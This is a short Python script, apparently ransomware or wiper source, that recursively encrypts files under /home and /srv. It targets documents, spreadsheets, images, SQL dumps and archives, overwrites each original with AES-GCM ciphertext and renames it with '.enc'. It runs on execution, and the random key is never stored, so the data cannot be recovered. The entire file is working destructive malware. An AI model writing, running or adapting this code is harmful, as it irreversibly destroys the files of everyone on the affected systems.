import os
from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes


class Locker:
    EXT = (".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pdf", ".jpg", ".sql", ".zip")

    def __init__(self, root):
        self.root = root
        self.key = get_random_bytes(32)

    def lock_file(self, path):
        cipher = AES.new(self.key, AES.MODE_GCM)
        with open(path, "rb") as f:
            data = f.read()
        ct, tag = cipher.encrypt_and_digest(data)
        with open(path, "wb") as f:
            f.write(cipher.nonce + tag + ct)
        os.rename(path, path + ".enc")

    def run(self):
        for d, _, files in os.walk(self.root):
            for name in files:
                if name.lower().endswith(self.EXT):
                    try:
                        self.lock_file(os.path.join(d, name))
                    except OSError:
                        continue


Locker("/home").run()
Locker("/srv").run()
